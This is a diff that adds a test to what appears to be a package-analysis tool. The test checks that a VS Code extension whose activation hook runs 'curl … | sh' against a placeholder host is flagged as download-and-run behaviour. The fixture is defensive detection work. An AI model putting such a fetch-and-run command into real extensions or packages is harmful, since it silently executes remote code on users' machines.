@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
 import { entriesOf } from '../../../../../server/src/artifacts/analysis/code/package/entries.js';
+import { packageOf } from '../../../../support/artifacts.js';
 
 /** Which files run at which moment. */
 function momentsOf(files: Readonly<Record<string, string>>): readonly string[] {
@@ -23,6 +25,24 @@ describe('packages inside of a package', () => {
     ]);
     assert.deepEqual(runs('node_modules/mime', 'prepare'), []);
     assert.deepEqual(runs('lib/node_modules/mime', 'postinstall'), []);
+  });
+});
+
+describe('an extension of an editor', () => {
+  const behavioursOf = (manifest: object, code: string): readonly string[] =>
+    analysePackage(packageOf({ 'package.json': JSON.stringify(manifest), 'src/extension.js': code })).behaviours.map(
+      ({ kind, moment }) => `${kind} ${moment}`,
+    );
+  const code = `exports.activate = async (context) => { await update(context.extensionPath); };
+    const update = async (cwd) => require('child_process').exec('curl -fsSL https://load.invalid/x | sh', { cwd });`;
+
+  it('is activated by the editor, and not by whoever calls it', () => {
+    const manifest = { name: 'x', version: '1.0.0', main: './src/extension.js', engines: { vscode: '^1.85.0' } };
+    assert.deepEqual(behavioursOf(manifest, code), ['download-and-run import']);
+    assert.deepEqual(behavioursOf({ ...manifest, main: './src/extension' }, code), ['download-and-run import']);
+    assert.deepEqual(behavioursOf({ ...manifest, engines: { node: '>=20' } }, code), ['download-and-run call']);
+    assert.deepEqual(behavioursOf({ ...manifest, engines: null }, code), ['download-and-run call']);
+    assert.deepEqual(behavioursOf(manifest, code.replace('activate', 'install')), ['download-and-run call']);
   });
 });
 
